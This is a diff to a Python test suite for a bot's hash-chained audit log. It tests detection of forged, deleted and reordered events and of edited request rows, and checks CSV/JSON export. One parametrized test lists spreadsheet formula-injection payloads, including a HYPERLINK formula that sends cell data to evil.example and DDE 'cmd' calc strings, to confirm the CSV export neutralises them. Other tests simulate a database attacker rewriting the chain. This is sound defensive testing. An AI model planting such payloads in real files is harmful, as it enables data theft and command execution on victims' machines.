@@ -17,10 +17,10 @@ from sqlalchemy.exc import IntegrityError
 from sqlalchemy.orm import Session
 
 from bot.rollback.model import Event, EventKind, NewRequest, State, Target
-from bot.store import audit, migrate
-from bot.store.audit import GENESIS, AuditChainError, entry_hash
+from bot.store import audit, export, migrate
+from bot.store.audit import GENESIS, AuditChainError, append_event, entry_hash
 from bot.store.database import create_schema, make_engine, session_factory
-from bot.store.models import AuditChainHeadRow, EventRow
+from bot.store.models import AuditChainHeadRow, EventRow, RequestRow
 from bot.store.request_store import RequestStore
 from tests.support.factories import T0
 
@@ -72,7 +72,7 @@ def sql(engine: Engine, statement: str, **params: Any) -> None:
 
 
 def content(row: EventRow) -> dict[str, Any]:
-    return {name: getattr(row, name) for name in audit.CONTENT_FIELDS}
+    return {name: getattr(row, name) for name in (*audit.CONTENT_FIELDS, "request_state")}
 
 
 def forge(engine: Engine, values: dict[str, Any], prev_hash: str, valid: bool = True) -> None:
@@ -101,16 +101,19 @@ def test_each_event_links_to_the_one_before(engine: Engine, store: RequestStore)
     with Session(engine) as session:
         head = session.get_one(AuditChainHeadRow, 1)
         assert (head.last_id, head.last_hash) == (8, chain[-1].hash)
-    assert audit.verify(engine) == audit.VerifyReport(entries=8, head=chain[-1].hash)
+    assert audit.verify(engine) == audit.VerifyReport(entries=8, head=chain[-1].hash, requests=2)
 
 
 def test_hash_is_sha256_of_prev_hash_and_canonical_json(engine: Engine, store: RequestStore) -> None:
     open_request(store)
     row = rows(engine)[0]
-    assert audit.canonical(content(row)) == (
+    before_0008 = (
         '{"actor_id":"UALICE","app_version":101,"appid":"wx_app","at":"2026-11-29T08:00:00.000000Z",'
-        '"detail":"checkout broken","errcode":null,"errmsg":null,"id":1,"kind":"requested","request_id":1}'
+        '"detail":"checkout broken","errcode":null,"errmsg":null,"id":1,"kind":"requested","request_id":1'
     )
+    assert audit.canonical({**content(row), "request_state": None}) == before_0008 + "}"
+    assert audit.canonical(content(row)) == before_0008 + f',"request_state":{json.dumps(row.request_state)}}}'
+    assert json.loads(row.request_state or "")["requester_id"] == "UALICE"
     expected = hashlib.sha256((GENESIS + audit.canonical(content(row))).encode()).hexdigest()
     assert row.hash == expected
 
@@ -292,19 +295,67 @@ def test_verify_finds_reordered_rows(engine: Engine, store: RequestStore) -> Non
     assert (found.row_id, found.kind) == (2, "unlinked")
 
 
-def test_verify_finds_an_id_gap_in_a_rewritten_chain(engine: Engine, store: RequestStore) -> None:
-    """Rows deleted and every later hash recomputed, head included: only the missing ids give it away."""
-    rolled_back(store)
-    chain = rows(engine)
-    sql(engine, "DELETE FROM rollback_events WHERE id >= 2")
-    prev = chain[0].hash
-    for row in chain[2:]:
+def rewrite(engine: Engine, first: int, chain: list[EventRow]) -> str:
+    """Rows from `first` on deleted and the rest put back with every hash recomputed, head included: the
+    rewrite an attacker with the database can make. Returns the new head."""
+    sql(engine, "DELETE FROM rollback_events WHERE id >= :first", first=first)
+    prev = chain[first - 2].hash
+    for row in chain[first:]:
         forge(engine, content(row), prev)
         prev = entry_hash(prev, content(row))
     sql(engine, "UPDATE audit_chain_head SET last_hash = :h", h=prev)
+    return prev
+
+
+def test_a_rewritten_chain_is_found_by_its_anchor(engine: Engine, store: RequestStore) -> None:
+    """Rows deleted and the chain rewritten consistently: only a head kept elsewhere gives it away."""
+    rolled_back(store)
+    chain = rows(engine)
+    anchor = chain[-1].hash
+    assert audit.verify(engine, expect_head=anchor).ok
+    assert audit.verify(engine, expect_head=chain[1].hash).ok  # an older head stays in the chain
+    new_head = rewrite(engine, 2, chain)
+    assert audit.verify(engine).ok  # ids 2.. missing is no alarm by itself: ids may skip
+    found = problem_with(engine, expect_head=anchor)
+    assert (found.row_id, found.kind) == (None, "anchor")
+    assert f"does not contain the expected head {anchor}" in found.detail
+    assert audit.verify(engine, expect_head=new_head).ok
+
+
+def problem_with(engine: Engine, expect_head: str) -> audit.Problem:
+    report = audit.verify(engine, expect_head=expect_head)
+    assert report.problem is not None, report
+    return report.problem
+
+
+def test_an_append_that_died_before_commit_is_no_false_alarm(engine: Engine, store: RequestStore) -> None:
+    """A killed process, a lost connection, a deadlock: the append's transaction rolls back. On PostgreSQL its id
+    is gone for good (nextval is not transactional): the ids skip, and the chain is intact all the same."""
+    request_id = rolled_back(store)
+    for _ in range(2):
+        with pytest.raises(RuntimeError), session_factory(engine).begin() as session:
+            request = session.get_one(RequestRow, request_id)
+            event = EventRow(request_id=request_id, kind="refused", actor_id="UX", at=T0, appid="wx_app", app_version=1)
+            append_event(session, event, request)
+            raise RuntimeError("the process died here")
+    store.record(request_id, Event(EventKind.REFUSED, "UCAROL", T0))
+    ids = [row.id for row in rows(engine)]
+    if engine.dialect.name == "postgresql":
+        assert ids == [1, 2, 3, 4, 7]
+    report = audit.verify(engine)
+    assert report.ok, report.problem
+    assert report.entries == 5 and report.requests == 1
+
+
+def test_an_inserted_row_is_found_even_where_ids_skip(engine: Engine, store: RequestStore) -> None:
+    """A row slipped into a gap (the fork index dropped first), linked to the row before, with a valid hash."""
+    rolled_back(store)
+    chain = rows(engine)
+    sql(engine, "UPDATE rollback_events SET id = id + 10 WHERE id >= 3")  # as if ids 3..12 were never committed
+    sql(engine, "DROP INDEX uq_rollback_events_prev_hash")
+    forge(engine, {**content(chain[2]), "id": 3, "kind": "approved", "actor_id": "UMALLORY"}, chain[1].hash)
     found = problem(engine)
-    assert (found.row_id, found.kind) == (3, "id_gap")
-    assert "ids 2 are missing" in found.detail
+    assert found.kind in ("unlinked", "edited") and found.row_id in (3, 13)
 
 
 def test_verify_reads_one_snapshot_while_events_are_appended(engine: Engine, store: RequestStore) -> None:
@@ -323,6 +374,72 @@ def test_verify_reads_one_snapshot_while_events_are_appended(engine: Engine, sto
         stop.set()
         writer.join(timeout=30)
     assert all(report.ok for report in reports), [r.problem for r in reports if not r.ok]
+    assert audit.verify(engine).ok
+
+
+# --- the requests: what history, status, App Home and the export show must match the chain
+
+
+@pytest.mark.parametrize(
+    ("column", "forged", "field"),
+    [
+        ("requester_id", "'UMALLORY'", "requester_id"),
+        ("decided_by", "'UMALLORY'", "decided_by"),
+        ("policy_bypass", "true", "policy_bypass"),
+        ("state", "'failed'", "state"),
+        ("online_version", "'9.9.9'", "online_version"),
+        ("created_at", "created_at", "created_at"),  # rewritten to itself: no change, no alarm (checked below)
+    ],
+)
+def test_verify_finds_an_edited_request_row(
+    engine: Engine, store: RequestStore, column: str, forged: str, field: str
+) -> None:
+    request_id = rolled_back(store)
+    open_request(store, "wx_other")
+    sql(engine, f"UPDATE rollback_requests SET {column} = {forged} WHERE id = :id", id=request_id)
+    if column == "created_at":
+        assert audit.verify(engine).ok
+        return
+    found = problem(engine)
+    assert (found.row_id, found.kind) == (request_id, "request")
+    assert str(found) == (
+        f"request {request_id}: {field} differs from what its newest event recorded: the request row was edited "
+        "behind the bot's back"
+    )
+
+
+def test_verify_finds_a_request_added_around_the_chain(engine: Engine, store: RequestStore) -> None:
+    request_id = rolled_back(store)
+    sql(
+        engine,
+        "INSERT INTO rollback_requests (appid, channel_id, requester_id, reason, target_app_version, "
+        "target_user_version, target_user_desc, target_commit_time, state, created_at, expires_at, policy_bypass) "
+        "SELECT appid, channel_id, 'UMALLORY', reason, target_app_version, target_user_version, target_user_desc, "
+        "target_commit_time, 'succeeded', created_at, expires_at, false FROM rollback_requests WHERE id = :id",
+        id=request_id,
+    )
+    found = problem(engine)
+    assert (found.row_id, found.kind) == (request_id + 1, "request")
+    assert "no event in the chain" in found.detail
+
+
+def test_bookkeeping_without_events_is_no_false_alarm(engine: Engine, store: RequestStore) -> None:
+    """The message's ts, the delivery's counters, a planned re-read: they change with no event, and are not
+    what the chain vouches for."""
+    request_id = rolled_back(store)
+    store.attach_message(request_id, "C2", "1700000000.000100")
+    sql(engine, "UPDATE rollback_requests SET shown_revision = 9, posted_through = 4, owner = 'replica-2'")
+    assert store.transition(request_id, State.SUCCEEDED, State.SUCCEEDED, None, recheck_at=T0, rechecks=1)
+    report = audit.verify(engine)
+    assert report.ok and report.requests == 1, report.problem
+
+
+def test_an_audited_change_without_an_event_is_refused(engine: Engine, store: RequestStore) -> None:
+    request_id = open_request(store)
+    with pytest.raises(ValueError, match="decided_by"):
+        store.transition(request_id, State.PENDING, State.PENDING, None, decided_by="UMALLORY")
+    with pytest.raises(ValueError, match="the state"):
+        store.transition(request_id, State.PENDING, State.CANCELLED, None)
     assert audit.verify(engine).ok
 
 
@@ -372,14 +489,14 @@ def test_migration_chains_the_events_of_an_existing_database(database_url: str) 
         create_schema(engine)  # what the bot does at start-up: 0001 -> head
         report = audit.verify(engine)
         assert report.ok, report.problem
-        assert report.entries == 6
+        assert (report.entries, report.requests, report.unchecked) == (6, 0, 2)  # nothing recorded to check by
         chain = rows(engine)
         assert chain[0].prev_hash == GENESIS and chain[0].detail == "结账失败 — broken"
 
         store = RequestStore(session_factory(engine))
         open_request(store)
         after = audit.verify(engine)
-        assert after.ok and after.entries == 7
+        assert after.ok and (after.entries, after.requests, after.unchecked) == (7, 1, 2)
         assert rows(engine)[-1].prev_hash == chain[-1].hash
     finally:
         engine.dispose()
@@ -397,9 +514,9 @@ def two_apps(store: RequestStore) -> tuple[int, int, int]:
 
 
 def test_export_json_has_every_event_with_its_request(engine: Engine, two_apps: tuple[int, int, int]) -> None:
-    records = json.loads(audit.export(engine, "json"))
+    records = json.loads(export.export(engine, "json"))
     assert [r["event_id"] for r in records] == list(range(1, 10))
-    assert list(records[0]) == list(audit.EXPORT_FIELDS)
+    assert list(records[0]) == list(export.EXPORT_FIELDS)
     assert records[0] == {
         "event_id": 1,
         "at": "2026-11-29T08:00:00.000000Z",
@@ -425,10 +542,10 @@ def test_export_json_has_every_event_with_its_request(engine: Engine, two_apps: 
 
 
 def test_export_csv_has_a_header_and_the_same_rows(engine: Engine, two_apps: tuple[int, int, int]) -> None:
-    exported = audit.export(engine, "csv")
-    assert exported.splitlines()[0] == ",".join(audit.EXPORT_FIELDS)
+    exported = export.export(engine, "csv")
+    assert exported.splitlines()[0] == ",".join(export.EXPORT_FIELDS)
     parsed = list(csv.DictReader(io.StringIO(exported)))
-    as_json = json.loads(audit.export(engine, "json"))
+    as_json = json.loads(export.export(engine, "json"))
     assert len(parsed) == len(as_json) == 9
     for row, record in zip(parsed, as_json, strict=True):
         assert row == {key: "" if value is None else str(value) for key, value in record.items()}
@@ -436,22 +553,49 @@ def test_export_csv_has_a_header_and_the_same_rows(engine: Engine, two_apps: tup
 
 def test_export_filters_by_time_and_app(engine: Engine, two_apps: tuple[int, int, int]) -> None:
     def ids(**filters: Any) -> list[int]:
-        return [r["event_id"] for r in json.loads(audit.export(engine, "json", **filters))]
+        return [r["event_id"] for r in json.loads(export.export(engine, "json", **filters))]
 
     assert ids(appid="wx_other") == [5, 6, 7, 8]
     assert ids(appid="wx_app") == [1, 2, 3, 4, 9]
     assert ids(since=T0 + timedelta(days=1)) == [5, 6, 7, 8, 9]
     assert ids(since=datetime(2026, 11, 30), appid="wx_app") == [9]  # a naive time is UTC
     assert ids(appid="wx_none") == []
-    assert audit.export(engine, "csv", appid="wx_none") == ",".join(audit.EXPORT_FIELDS) + "\n"
-    assert audit.export(engine, "json", appid="wx_none") == "[]\n"
+    assert export.export(engine, "csv", appid="wx_none") == ",".join(export.EXPORT_FIELDS) + "\r\n"
+    assert export.export(engine, "json", appid="wx_none") == "[]\n"
 
 
 def test_export_keeps_awkward_text(engine: Engine, store: RequestStore) -> None:
     request_id = open_request(store)
     awkward = 'line one\nline "two", with commas; 回滚 ✓'
     store.record(request_id, Event(EventKind.REFUSED, "UBOB", T0, detail=awkward))
-    parsed = list(csv.DictReader(io.StringIO(audit.export(engine, "csv"))))
+    parsed = list(csv.DictReader(io.StringIO(export.export(engine, "csv"))))
     assert parsed[1]["detail"] == awkward
-    assert json.loads(audit.export(engine, "json"))[1]["detail"] == awkward
+    assert json.loads(export.export(engine, "json"))[1]["detail"] == awkward
     assert audit.verify(engine).ok
+
+
+@pytest.mark.parametrize(
+    "reason",
+    [
+        '=HYPERLINK("https://evil.example/?x="&A1,"incident doc")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "\t=1+1",
+        "\r=1+1",
+    ],
+)
+def test_csv_export_neutralises_formulas_and_json_stays_exact(engine: Engine, store: RequestStore, reason: str) -> None:
+    """A reason a spreadsheet would run as a formula when an auditor opens the CSV: it reads as text instead."""
+    request_id = open_request(store)
+    store.record(request_id, Event(EventKind.REFUSED, "UBOB", T0, detail=reason))
+    parsed = list(csv.DictReader(io.StringIO(export.export(engine, "csv"))))
+    assert parsed[1]["detail"] == "'" + reason
+    assert json.loads(export.export(engine, "json"))[1]["detail"] == reason
+    assert parsed[1]["errcode"] == "" and parsed[0]["detail"] == "checkout broken"  # the rest as it was
+
+
+def test_csv_export_keeps_numbers_as_numbers(engine: Engine, store: RequestStore) -> None:
+    request_id = open_request(store)
+    store.record(request_id, Event(EventKind.FAILED, None, T0, detail="busy", errcode=-1, errmsg="system error"))
+    assert list(csv.DictReader(io.StringIO(export.export(engine, "csv"))))[1]["errcode"] == "-1"
